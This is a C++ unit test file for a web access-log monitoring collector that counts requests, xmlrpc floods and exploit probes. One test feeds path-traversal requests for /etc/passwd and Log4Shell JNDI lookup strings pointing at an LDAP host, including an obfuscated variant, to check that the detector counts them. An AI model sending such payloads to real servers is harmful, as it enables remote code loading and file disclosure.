#include "collectors/access_log_collector.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <fstream>
#include <sstream>

#include "testutil/exposition.h"
#include "testutil/fake_clock.h"
#include "testutil/step_trigger.h"
#include "testutil/temp_dir.h"
#include "testutil/testdata.h"

namespace edgewatch {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

class AccessLogCollectorTest : public ::testing::Test {
 protected:
  static std::string Text(const Collector& c) { return testing::Exposition(c); }

  Logger logger() { return Logger(log_, LogLevel::kDebug, LogFormat::kLogfmt, clock_); }

  std::ostringstream log_;
  testing::FakeClock clock_;
};

// A quiet log: GET and POST with 200, 304, 404 and 500 are there at 0, so ratios by code class
// show 0, not "No data"; xmlrpc and wp-login POST 200 too.
TEST_F(AccessLogCollectorTest, QuietLogHasItsSeriesAtZero) {
  const testing::TempDir dir("al-quiet");
  std::ofstream(dir.File("quiet.log")) << "";
  AccessLogCollector c(AccessLogConfig{}, clock_, logger());
  ASSERT_TRUE(c.Replay(dir.File("quiet.log")).ok());
  const std::string t = Text(c);
  for (const std::string method : {"GET", "POST"}) {
    for (const std::string code : {"200", "304", "404", "500"}) {
      EXPECT_THAT(t, HasSubstr("\nedgewatch_http_requests_total{log=\"quiet.log\",method=\"" +
                               method + "\",code=\"" + code + "\"} 0\n"));
    }
  }
  EXPECT_THAT(t, HasSubstr("\nedgewatch_xmlrpc_requests_total{log=\"quiet.log\",method=\"POST\","
                           "code=\"200\"} 0\n"));
  EXPECT_THAT(t, Not(HasSubstr("method=\"PUT\"")));
}

// Expected values: the numbers in tests/testdata/access_log/make_incident.py's docstring.
TEST_F(AccessLogCollectorTest, ReplaysTheXmlrpcFloodIncident) {
  AccessLogCollector c(AccessLogConfig{}, clock_, logger());
  ASSERT_TRUE(c.Replay(testing::TestData("access_log/incident-xmlrpc-flood.log")).ok());
  const std::string t = Text(c);
  const std::string log = "log=\"incident-xmlrpc-flood.log\"";
  EXPECT_THAT(t, HasSubstr("edgewatch_log_lines_total{" + log + "} 1170\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_http_unparsed_lines_total{" + log + "} 2\n"));
  EXPECT_THAT(
      t, HasSubstr("edgewatch_http_requests_total{" + log + ",method=\"GET\",code=\"200\"} 625\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_http_requests_total{" + log +
                           ",method=\"POST\",code=\"200\"} 490\n"));
  EXPECT_THAT(
      t, HasSubstr("edgewatch_http_requests_total{" + log + ",method=\"POST\",code=\"403\"} 50\n"));
  EXPECT_THAT(
      t, HasSubstr("edgewatch_http_requests_total{" + log + ",method=\"GET\",code=\"404\"} 3\n"));
  // 600*5120 + 450*370 + 50*199 + 40*4300 + 25*5120 + 3*196
  EXPECT_THAT(t, HasSubstr("edgewatch_http_response_bytes_total{" + log + "} 3549038\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_xmlrpc_requests_total{" + log +
                           ",method=\"POST\",code=\"200\"} 450\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_xmlrpc_requests_total{" + log +
                           ",method=\"POST\",code=\"403\"} 50\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_wp_login_requests_total{" + log +
                           ",method=\"POST\",code=\"200\"} 40\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_http_pingback_requests_total{" + log + "} 25\n"));
  EXPECT_THAT(
      t, HasSubstr("edgewatch_http_exploit_probes_total{" + log + ",kind=\"shellshock\"} 3\n"));
  EXPECT_THAT(t,
              HasSubstr("edgewatch_http_exploit_probes_total{" + log + ",kind=\"log4shell\"} 0\n"));
  EXPECT_THAT(
      t, HasSubstr("edgewatch_http_exploit_probes_total{" + log + ",kind=\"path_traversal\"} 0\n"));
  // All three were answered 404 (grep -F '() {' on the log): none may have worked.
  EXPECT_THAT(t, HasSubstr("edgewatch_http_exploit_probes_answered_total{" + log +
                           ",kind=\"shellshock\"} 0\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_xmlrpc_top_client_requests{" + log +
                           ",client=\"203.0.113.10\"} 300\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_xmlrpc_top_client_requests{" + log +
                           ",client=\"203.0.113.11\"} 150\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_xmlrpc_top_client_requests{" + log +
                           ",client=\"2001:db8::77\"} 50\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_xmlrpc_top_client_requests{" + log +
                           ",client=\"198.51.100.23\"} 40\n"));
}

TEST_F(AccessLogCollectorTest, TopClientsAreBoundedAndAgeOut) {
  AccessLogSettings settings{{"/xmlrpc.php"}, {"/wp-login.php"}, 3, 60'000'000'000};
  AccessLogStats stats(settings);
  access_log::Request r;
  r.method = access_log::Method::kPost;
  r.status = 200;
  r.path = "/xmlrpc.php";
  // 1,000 distinct attackers (addresses an attacker controls) and three heavy ones.
  std::vector<std::string> clients;
  for (int i = 0; i < 1000; ++i) {
    clients.push_back("10.0." + std::to_string(i / 250) + "." + std::to_string(i % 250));
  }
  for (const auto& c : clients) {
    r.client = c;
    ASSERT_TRUE(stats.Add(r));
    stats.AddTopClient(r.client, 0);
  }
  for (int i = 0; i < 100; ++i) {
    for (const char* heavy : {"192.0.2.1", "192.0.2.2", "192.0.2.3"}) {
      r.client = heavy;
      ASSERT_TRUE(stats.Add(r));
      stats.AddTopClient(r.client, 1'000'000'000);
    }
  }
  const auto top = stats.TopClients(2'000'000'000).entries;
  ASSERT_EQ(top.size(), 3u);
  EXPECT_EQ(top[0].first.view(), "192.0.2.1");
  EXPECT_EQ(top[1].first.view(), "192.0.2.2");
  EXPECT_EQ(top[2].first.view(), "192.0.2.3");
  EXPECT_TRUE(stats.TopClients(200'000'000'000).entries.empty());  // a quiet window later
  EXPECT_EQ(stats.xmlrpc()[static_cast<int>(access_log::Method::kPost)][100], 1300u);
}

TEST_F(AccessLogCollectorTest, SignaturesInEveryField) {
  AccessLogStats stats(AccessLogSettings{});
  access_log::Request r;
  r.status = 200;
  r.request = "GET /a/../../etc/passwd HTTP/1.1";
  stats.Add(r);
  r.request = "GET /%2e%2e/%2E%2E/etc/passwd HTTP/1.1";
  stats.Add(r);
  r.request = "GET / HTTP/1.1";
  r.user_agent = "${jndi:ldap://198.51.100.9/a}";
  stats.Add(r);
  r.user_agent = "";
  r.referer = "${${lower:j}ndi:ldap://x/a}";
  stats.Add(r);
  r.referer = "";
  r.request = "GET /?q=%24%7Bjndi:dns://x/a%7D HTTP/1.1";
  stats.Add(r);
  r.request = "GET /index.php?x=a..b HTTP/1.1";             // not a traversal
  r.user_agent = "Mozilla/5.0 (X11; Linux) WordPress/6.4";  // not a pingback verifier
  stats.Add(r);
  const auto& p = stats.probes();
  EXPECT_EQ(p[static_cast<int>(access_log::Probe::kPathTraversal)], 2u);
  EXPECT_EQ(p[static_cast<int>(access_log::Probe::kLog4Shell)], 3u);
  EXPECT_EQ(p[static_cast<int>(access_log::Probe::kShellshock)], 0u);
  EXPECT_EQ(stats.pingbacks(), 0u);
}

TEST_F(AccessLogCollectorTest, FollowsConfiguredLogsWithTheirFormat) {
  const testing::TempDir dir("al");
  const auto path = dir.File("access.log");
  std::ofstream(path) << "old line before start\n";
  AccessLogConfig config;
  config.logs.push_back({"site", path, "%h %>s %U"});
  auto trigger = std::make_unique<testing::StepTrigger>();
  testing::StepTrigger* step = trigger.get();
  AccessLogCollector c(config, clock_, logger(), std::move(trigger));
  ASSERT_TRUE(c.Start().ok());
  step->AwaitFirstRound();
  // Before any request, POST 200 of xmlrpc and wp-login are there at 0 (so that rate() sees a
  // flood from its first request), and of all requests only the pre-initialised ones.
  const std::string before = Text(c);
  EXPECT_THAT(before, HasSubstr("edgewatch_xmlrpc_requests_total{log=\"site\",method=\"POST\","
                                "code=\"200\"} 0\n"));
  EXPECT_THAT(before, HasSubstr("edgewatch_wp_login_requests_total{log=\"site\",method=\"POST\","
                                "code=\"200\"} 0\n"));
  EXPECT_THAT(before, Not(HasSubstr("method=\"OTHER\"")));
  EXPECT_THAT(before, Not(HasSubstr("code=\"403\"")));
  std::ofstream(path, std::ios::app) << "192.0.2.5 200 /xmlrpc.php\n192.0.2.5 200 /x\ngarbage\n\n";
  step->Step();
  const std::string t = Text(c);
  EXPECT_THAT(t, HasSubstr("edgewatch_log_up{log=\"site\"} 1\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_log_lines_total{log=\"site\"} 4\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_http_unparsed_lines_total{log=\"site\"} 1\n"));
  EXPECT_THAT(
      t,
      HasSubstr("edgewatch_xmlrpc_requests_total{log=\"site\",method=\"OTHER\",code=\"200\"} 1\n"));
  EXPECT_THAT(
      t,
      HasSubstr("edgewatch_http_requests_total{log=\"site\",method=\"OTHER\",code=\"200\"} 2\n"));
  EXPECT_THAT(
      t, HasSubstr("edgewatch_xmlrpc_top_client_requests{log=\"site\",client=\"192.0.2.5\"} 1\n"));
  EXPECT_THAT(t, Not(HasSubstr("old line")));
  c.Stop();
}

TEST_F(AccessLogCollectorTest, SetLogsKeepsTheStateOfLogsThatStay) {
  const testing::TempDir dir("al-set");
  const auto site = dir.File("site.log");
  const auto gone = dir.File("gone.log");
  const auto added = dir.File("added.log");
  for (const auto& p : {site, gone, added}) {
    std::ofstream(p) << "192.0.2.1 200 /before-start\n";
  }
  AccessLogConfig config;
  config.logs.push_back({"site", site, "%h %>s %U"});
  config.logs.push_back({"gone", gone, ""});
  auto trigger = std::make_unique<testing::StepTrigger>();
  testing::StepTrigger* step = trigger.get();
  AccessLogCollector c(config, clock_, logger(), std::move(trigger));
  ASSERT_TRUE(c.Start().ok());
  step->AwaitFirstRound();
  std::ofstream(site, std::ios::app) << "192.0.2.5 200 /xmlrpc.php\n";
  step->Step();
  // Written before the reload, read after it. The kept log takes its new format (%U %>s).
  std::ofstream(site, std::ios::app) << "/xmlrpc.php 403\n";
  c.SetLogs({{"added", added, ""}, {"site", site, "%U %>s"}});
  step->Step();
  const std::string t = Text(c);
  EXPECT_THAT(t, HasSubstr("edgewatch_log_lines_total{log=\"site\"} 2\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_xmlrpc_requests_total{log=\"site\",method=\"OTHER\","
                           "code=\"200\"} 1\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_xmlrpc_requests_total{log=\"site\",method=\"OTHER\","
                           "code=\"403\"} 1\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_http_unparsed_lines_total{log=\"site\"} 0\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_log_lines_total{log=\"added\"} 0\n"));  // from its end
  EXPECT_THAT(t, Not(HasSubstr("log=\"gone\"")));
  // Only the line logged with %h names a client.
  EXPECT_THAT(
      t, HasSubstr("edgewatch_xmlrpc_top_client_requests{log=\"site\",client=\"192.0.2.5\"} 1\n"));
  EXPECT_THAT(t, Not(HasSubstr("client=\"\"")));
  c.Stop();
}

TEST_F(AccessLogCollectorTest, CatchUpRoundsReadEveryFile) {
  const testing::TempDir dir("al-busy");
  const auto busy = dir.File("busy.log");
  const auto quiet = dir.File("quiet.log");
  std::ofstream(busy) << "";
  std::ofstream(quiet) << "";
  AccessLogConfig config;
  config.logs.push_back({"busy", busy, "%h %>s %U"});
  config.logs.push_back({"quiet", quiet, "%h %>s %U"});
  auto trigger = std::make_unique<testing::StepTrigger>(std::vector<std::string>{busy});
  testing::StepTrigger& step = *trigger;
  AccessLogCollector c(config, clock_, logger(), std::move(trigger));
  ASSERT_TRUE(c.Start().ok());
  step.AwaitFirstRound();
  // More than one round's read budget (4 MiB) in the written file; the other file's line, not in
  // the trigger's list, is read by the rounds that catch up.
  const std::string line = "192.0.2.1 200 /x\n";
  const std::size_t lines = (5 << 20) / line.size();
  {
    std::ofstream out(busy, std::ios::app);
    for (std::size_t i = 0; i < lines; ++i) {
      out << line;
    }
  }
  std::ofstream(quiet, std::ios::app) << line;
  step.Step();
  const std::string t = Text(c);
  EXPECT_THAT(t,
              HasSubstr("edgewatch_log_lines_total{log=\"busy\"} " + std::to_string(lines) + "\n"));
  EXPECT_THAT(t, HasSubstr("edgewatch_log_lines_total{log=\"quiet\"} 1\n"));
  c.Stop();
}

}  // namespace
}  // namespace edgewatch
